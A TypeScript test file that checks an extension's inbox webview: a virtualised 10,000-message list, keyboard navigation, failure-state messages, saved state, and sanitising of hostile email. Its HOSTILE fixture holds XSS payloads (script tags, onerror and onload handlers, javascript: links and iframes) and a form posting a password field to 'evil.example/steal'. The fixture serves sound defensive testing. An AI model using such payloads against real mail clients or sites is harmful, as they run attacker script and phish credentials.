// The inbox webview (dist/webview/inbox.js) in chromium under the panel's
// CSP: a virtualised list of 10,000 messages, paging as it scrolls,
// keyboard navigation, hostile mail, every failure state, saved state.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { ORIGIN, openPanel, type PanelPage } from './webview-page';

const TARGET = { name: 'projectx', address: 'SMO-ProjectX@contoso.com', site: 'https://intranet.contoso.com/sites/projectx', server: 'ex01', ewsUrl: 'https://mail.contoso.com/EWS/Exchange.asmx' };
const TOTAL = 10_000;

function summaries(offset: number, count: number) {
  return Array.from({ length: Math.max(0, Math.min(count, TOTAL - offset)) }, (_, k) => {
    const i = offset + k;
    return { id: `id-${i}`, subject: `Subject ${i}`, from: { name: `Sender ${i % 7}`, address: `s${i % 7}@contoso.com` }, received: new Date(Date.UTC(2014, 2, 14) - i * 60_000).toISOString(), isRead: i % 3 !== 0, hasAttachments: i % 5 === 0 };
  });
}

const HOSTILE = [
  '<p>Quarterly numbers attached.</p>',
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '<img src="https://tracker.fabrikam.com/pixel.gif" alt="logo">',
  '<a id="js" href="javascript:window.__pwned = \'link\'">click</a>',
  '<a id="web" href="https://intranet.contoso.com/sites/projectx/Shared%20Documents">the documents</a>',
  '<iframe src="javascript:parent.__pwned = \'iframe\'"></iframe>',
  '<svg onload="window.__pwned = \'svg\'"><circle r="5"/></svg>',
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '<div style="background:url(https://tracker.fabrikam.com/bg.png)">styled</div>',
  '<object data="https://evil.example/x.swf"></object>',
].join('\n');

function detail(i: number, html: string) {
  return { ...summaries(i, 1)[0], to: [{ name: 'Project X', address: TARGET.address }], cc: [], html, attachments: [{ name: 'Budget FY14.xlsx', size: 48_000, contentType: 'application/vnd.ms-excel' }] };
}

describe('inbox webview', () => {
  let p: PanelPage;
  before(async () => {
    p = await openPanel('inbox');
  });
  after(() => p?.close());

  const needPages = async () => (await p.posted()).filter((m) => m.type === 'needPage') as Array<{ offset: number; size: number; generation: number }>;
  const answerPages = async () => {
    for (const m of await needPages()) await p.deliver({ type: 'page', generation: m.generation, offset: m.offset, total: TOTAL, items: summaries(m.offset, m.size) });
  };
  const rowCount = () => p.page.evaluate(() => document.querySelectorAll('.row').length);
  const showFolder = async (state?: unknown) => {
    await p.load(state);
    await p.deliver({ type: 'target', target: TARGET, account: 'alice@contoso.com' });
    await p.deliver({ type: 'folder', generation: 1, folder: { displayName: 'Inbox', total: TOTAL, unread: 3334 }, search: '', total: TOTAL });
    await answerPages();
  };

  test('10,000 messages: under 300 rows in the DOM, pages asked as the list scrolls, the next one early', async () => {
    await showFolder();
    const first = await needPages();
    assert.deepEqual(first.map((m) => [m.offset, m.size]), [[0, 100], [100, 100]], 'the visible page and the next one');
    const rows = await rowCount();
    assert.ok(rows > 10 && rows < 300, `${rows} rows`);
    const firstRow = await p.page.evaluate(() => {
      const r = document.querySelector('#row-0')!;
      return { text: r.textContent, unread: r.classList.contains('unread'), clip: r.querySelector('.attachment')!.getAttribute('aria-label') };
    });
    assert.match(firstRow.text!, /Sender 0.*Subject 0/);
    assert.deepEqual([firstRow.unread, firstRow.clip], [true, 'has attachments']);
    assert.match(await p.page.locator('.status').textContent(), /10000 messages, 3334 unread/);

    await p.page.evaluate(() => {
      document.querySelector('.list')!.scrollTop = 5000 * 30;
    });
    await p.page.waitForFunction(() => (window as any).__posted.some((m: any) => m.type === 'needPage' && m.offset === 5000));
    await answerPages();
    assert.ok(await p.page.evaluate(() => document.querySelector('#row-5000')?.textContent?.includes('Subject 5000')));
    assert.ok((await rowCount()) < 300);
    const offsets = (await needPages()).map((m) => m.offset);
    assert.ok(offsets.length <= 5 && offsets.every((o) => o % 100 === 0), `asked for ${offsets.join(', ')}, not the folder`);
  });

  test('keyboard: arrows move through the list, Enter opens the message', async () => {
    await showFolder();
    await p.page.focus('.list');
    for (let i = 0; i < 3; i++) await p.page.keyboard.press('ArrowDown');
    assert.equal(await p.page.evaluate(() => document.querySelector('.list')!.getAttribute('aria-activedescendant')), 'row-3');
    await p.page.keyboard.press('Enter');
    const opened = (await p.posted()).filter((m) => m.type === 'open');
    assert.deepEqual(opened, [{ type: 'open', id: 'id-3' }]);
    await p.page.keyboard.press('End');
    assert.equal(await p.page.evaluate(() => document.querySelector('.list')!.getAttribute('aria-activedescendant')), `row-${TOTAL - 1}`);
  });

  test('hostile mail: nothing runs, nothing is fetched, remote images wait for the user, links go through the extension', async () => {
    await showFolder();
    await p.page.locator('#row-2').click();
    await p.deliver({ type: 'message', message: detail(2, HOSTILE), remoteImages: false });
    await p.page.evaluate('new Promise((r) => setTimeout(r, 300))');
    assert.equal(await p.page.evaluate('window.__pwned'), undefined);
    const body = await p.page.evaluate(() => {
      const b = document.querySelector('.reader .body')!;
      return { html: b.innerHTML, imgs: Array.from(b.querySelectorAll('img')).map((i) => [i.getAttribute('src'), i.getAttribute('data-blocked-src')]) };
    });
    assert.doesNotMatch(body.html, /<(script|iframe|svg|form|input|object)|onerror|onload|javascript:|style=/i);
    assert.deepEqual(body.imgs, [[null, null], [null, 'https://tracker.fabrikam.com/pixel.gif']]);
    assert.match(await p.page.locator('.reader .subject').textContent(), /Subject 2/);
    assert.match(await p.page.locator('.reader .attachments').textContent(), /Budget FY14\.xlsx/);

    await p.page.locator('#js').click();
    await p.page.locator('#web').click();
    assert.equal(await p.page.evaluate('window.__pwned'), undefined);
    const links = (await p.posted()).filter((m) => m.type === 'openLink');
    assert.deepEqual(links, [{ type: 'openLink', url: 'https://intranet.contoso.com/sites/projectx/Shared%20Documents' }]);

    await p.page.locator('vscode-button', { hasText: 'Show remote images' }).click();
    assert.ok((await p.posted()).some((m) => m.type === 'allowImages' && m.id === 'id-2'));
    await p.page.locator('vscode-button', { hasText: 'Mark as unread' }).click();
    assert.ok((await p.posted()).some((m) => m.type === 'setRead' && m.id === 'id-2' && m.isRead === false));
    assert.deepEqual(p.requests.filter((u) => !u.startsWith(`${ORIGIN}/`)), [], 'no request left the page');
    assert.deepEqual(p.errors, []);
  });

  test('a page arriving while a message is read leaves the reader as it is', async () => {
    await showFolder();
    await p.page.locator('#row-1').click();
    await p.deliver({ type: 'message', message: detail(1, '<p id="kept">body</p>'), remoteImages: false });
    await p.page.evaluate(() => ((document.querySelector('#kept') as any).__marker = 1));
    await p.deliver({ type: 'page', generation: 1, offset: 200, total: TOTAL, items: summaries(200, 100) });
    assert.equal(await p.page.evaluate(() => (document.querySelector('#kept') as any)?.__marker), 1);
  });

  test('search on Enter, Refresh and the SharePoint site link ask the extension', async () => {
    await showFolder();
    await p.page.locator('vscode-text-field').click();
    await p.page.keyboard.type('budget');
    await p.page.keyboard.press('Enter');
    await p.page.locator('vscode-button', { hasText: 'Refresh' }).click();
    await p.page.locator('.site-link').click();
    const asked = (await p.posted()).filter((m) => ['search', 'refresh', 'openSite'].includes(String(m.type)));
    assert.deepEqual(asked, [{ type: 'search', text: 'budget' }, { type: 'refresh' }, { type: 'openSite' }]);
    await p.deliver({ type: 'folder', generation: 2, folder: { displayName: 'Inbox', total: TOTAL, unread: 3334 }, search: 'budget', total: 42 });
    assert.match(await p.page.locator('.status').textContent(), /42 messages match “budget”/);
    assert.deepEqual((await needPages()).filter((m) => m.generation === 2).map((m) => m.offset), [0], 'one page holds all 42');
  });

  test('allowed images keep their address (the extension widened img-src for this render)', async () => {
    await showFolder();
    await p.page.locator('#row-4').click();
    await p.deliver({ type: 'message', message: detail(4, '<img src="https://cdn.contoso.com/logo.png"><img src="http://plain.example/x.png">'), remoteImages: true });
    const srcs = await p.page.evaluate(() => Array.from(document.querySelectorAll('.reader .body img')).map((i) => i.getAttribute('src')));
    assert.deepEqual(srcs, ['https://cdn.contoso.com/logo.png', null], 'plain-http images stay blocked: the CSP admits https origins only');
    assert.equal(await p.page.locator('vscode-button', { hasText: 'Show remote images' }).count(), 0);
  });

  test('read state: a "read" message updates the row, the reader and the unread count', async () => {
    await showFolder();
    await p.page.locator('#row-0').click();
    await p.deliver({ type: 'message', message: detail(0, '<p>hi</p>'), remoteImages: false });
    await p.deliver({ type: 'read', id: 'id-0', isRead: true });
    assert.equal(await p.page.evaluate(() => document.querySelector('#row-0')!.classList.contains('unread')), false);
    assert.match(await p.page.locator('.status').textContent(), /3333 unread/);
    assert.ok(await p.page.locator('vscode-button', { hasText: 'Mark as unread' }).count());
  });

  describe('states', () => {
    const failure = async (f: Record<string, unknown>, retryAt?: number) => {
      await p.load();
      await p.deliver({ type: 'target', target: TARGET });
      await p.deliver({ type: 'failure', failure: f, ...(retryAt ? { retryAt } : {}) });
      return {
        state: await p.page.evaluate(() => (document.querySelector('.status') as HTMLElement).dataset.state),
        text: (await p.page.locator('.status').textContent()) as string,
        listHidden: await p.page.evaluate(() => (document.querySelector('.list') as HTMLElement).hidden),
      };
    };

    test('loading says so, then shows a progress ring; an empty search says nothing matched', async () => {
      await p.load();
      await p.deliver({ type: 'notice', notice: { state: 'loading' } });
      assert.match(await p.page.locator('.status').textContent(), /Loading/);
      await p.page.waitForFunction(() => document.querySelector('.status vscode-progress-ring'));
      await p.deliver({ type: 'folder', generation: 1, folder: { displayName: 'Inbox', total: TOTAL, unread: 0 }, search: 'zebedee', total: 0 });
      assert.match(await p.page.locator('.status').textContent(), /No message matches “zebedee”/);
    });

    test('signed out: a Sign in button that asks the extension', async () => {
      const s = await failure({ state: 'signed-out', server: 'ex01 (mail.contoso.com)', account: 'alice@contoso.com' });
      assert.deepEqual([s.state, s.listHidden], ['signed-out', true]);
      assert.match(s.text, /Sign in to ex01 \(mail\.contoso\.com\).*alice@contoso\.com/);
      await p.page.locator('vscode-button', { hasText: 'Sign in' }).click();
      assert.ok((await p.posted()).some((m) => m.type === 'signIn'));
    });

    test('wrong password: re-enter the credentials', async () => {
      const s = await failure({ state: 'wrong-credentials', httpStatus: 401, detail: 'refused' });
      assert.match(s.text, /refused the credentials \(HTTP 401\)/);
      await p.page.locator('vscode-button', { hasText: 'Re-enter credentials' }).click();
      assert.ok((await p.posted()).some((m) => m.type === 'signIn'));
    });

    test('throttled: a countdown to the retry the server asked for', async () => {
      const s = await failure({ state: 'throttled', backOffMs: 5000, detail: 'busy' }, Date.now() + 5000);
      assert.match(s.text, /busy\. Retrying in [45] s/);
    });

    const named: Array<[Record<string, unknown>, RegExp]> = [
      [{ state: 'no-such-mailbox', mailbox: 'SMO-Nothing@contoso.com' }, /no mailbox SMO-Nothing@contoso\.com/],
      [{ state: 'access-denied', mailbox: TARGET.address }, /may not open SMO-ProjectX/],
      [{ state: 'timeout', timeoutMs: 10000, host: 'mail.contoso.com' }, /did not answer within 10 s/],
      [{ state: 'unreachable', host: 'mail.contoso.com', code: 'ECONNREFUSED', detail: 'x' }, /cannot be reached \(ECONNREFUSED\)/],
      [{ state: 'tls', host: 'mail.contoso.com', problem: 'untrusted', code: 'UNABLE_TO_VERIFY_LEAF_SIGNATURE', detail: 'x' }, /does not trust: add its CA to office-farm\.network\.ca/],
      [{ state: 'tls', host: 'mail.contoso.com', problem: 'wrong-host', code: 'ERR_TLS_CERT_ALTNAME_INVALID', detail: 'x' }, /is not issued for mail\.contoso\.com/],
      [{ state: 'malformed', detail: 'HTTP 500: unreadable answer' }, /not EWS: HTTP 500/],
      [{ state: 'too-large', maxBytes: 8 * 1024 * 1024 }, /larger than 8192 KiB/],
      [{ state: 'server-fault', responseCode: 'ErrorInternalServerError', detail: 'failed' }, /ErrorInternalServerError/],
      [{ state: 'insecure', url: 'http://mail.contoso.com/EWS/Exchange.asmx', detail: 'Basic sends the password in clear' }, /not sent to http:/],
    ];
    for (const [f, text] of named) {
      test(`${f.state}${f.problem ? ` (${String(f.problem)})` : ''} is named, never a blank panel`, async () => {
        const s = await failure(f);
        assert.equal(s.state, f.state);
        assert.match(s.text, text);
        if (!['insecure', 'access-denied'].includes(String(f.state))) {
          await p.page.locator('vscode-button', { hasText: 'Retry' }).click();
          assert.ok((await p.posted()).some((m) => m.type === 'retry'));
        }
      });
    }

    test('network off: the panel says why', async () => {
      await p.load();
      await p.deliver({ type: 'notice', notice: { state: 'disabled', reason: 'the workspace is not trusted' } });
      assert.match(await p.page.locator('.status').textContent(), /The inbox is off: the workspace is not trusted\./);
    });

    test('an invalid message is dropped with a warning and changes nothing', async () => {
      await showFolder();
      const before = await p.page.locator('.status').textContent();
      await p.deliver({ type: 'failure', failure: { state: 'kaboom' } });
      assert.equal(await p.page.locator('.status').textContent(), before);
      assert.ok(p.console.some((l) => /dropped an invalid message/.test(l)));
    });
  });

  test('saved state: the selection, the search and the place in the list come back after a reload', async () => {
    await showFolder();
    await p.page.evaluate(() => {
      document.querySelector('.list')!.scrollTop = 600;
    });
    await p.page.locator('#row-30').click();
    const saved = await p.page.evaluate('window.__state');
    assert.deepEqual({ ...(saved as object), scrollTop: 600 }, { target: TARGET, selectedId: 'id-30', search: '', scrollTop: 600 });
    assert.ok(!JSON.stringify(saved).includes('alice'), 'no account or secret in the state');
    await showFolder(saved);
    assert.ok((await p.posted()).some((m) => m.type === 'open' && m.id === 'id-30'), 'the selected message is opened again');
    assert.equal(await p.page.evaluate(() => document.querySelector('.list')!.scrollTop), 600);
  });

  test('the toolkit renders under the CSP, and an ordinary session logs no CSP violation', async () => {
    p.console.length = 0;
    await showFolder();
    await p.page.locator('#row-1').click();
    await p.deliver({ type: 'message', message: detail(1, '<p>Minutes of <b>Tuesday</b>, see <a href="https://intranet.contoso.com/">the site</a>.</p>'), remoteImages: false });
    const ok = await p.page.evaluate(() => !!customElements.get('vscode-button') && !!document.querySelector('vscode-button')!.shadowRoot);
    assert.ok(ok);
    assert.deepEqual(p.console.filter((l) => /Content Security Policy/i.test(l)), []);
  });
});
